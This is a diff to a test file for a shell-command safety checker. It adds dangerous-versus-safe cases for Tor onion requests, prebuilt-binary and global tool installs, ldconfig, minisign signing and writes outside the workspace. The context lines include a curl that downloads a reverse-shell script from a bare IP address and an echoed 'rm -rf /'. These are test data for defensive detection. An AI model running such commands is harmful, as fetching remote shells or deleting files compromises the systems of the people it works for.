@@ -3905,6 +3905,19 @@ describe('the fifteen sets held out last stop and the hundred-and-sixtieth and -
     ['sh undock.sh "curl -sL http://10.0.0.127:8000/rshell.sh -o /tmp/rshell.sh"', true, 'named only by its address'],
     ['./run-in-vm.sh "python3 -m pytest -q"', false],
     ["echo 'rm -rf /'", false],
+    // Tor hidden services; prebuilt binaries and global tools installed for the user; the library cache; signing keys.
+    ['curl -I https://facebookcorewwwi.onion', true, 'Tor hidden service'],
+    ['cargo binstall sccache', true, 'prebuilt binary'],
+    ['cargo binstall -vV', false],
+    ['dotnet tool install --global wix --version 6.0.2', true, 'every later shell'],
+    ['dotnet tool install wix --version 6.0.2', false],
+    ['ldconfig', true, 'shared-library cache'],
+    ['ldconfig -p', false],
+    ['minisign -S -m file.txt', true, "user's secret key"],
+    ['minisign -S -W -s signing.key -m package.tar.zst', false],
+    // GNU's lower-case install directories; a lower-case data directory of the script's own is not one.
+    ['install -d "$(bindir)"', true, 'outside the workspace'],
+    ['mkdir -p "${data_dir}"', false],
   ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
     const r = checkCommand(cmd, WS);
     expect(r.dangerous, r.reasons.join('; ')).toBe(dangerous);
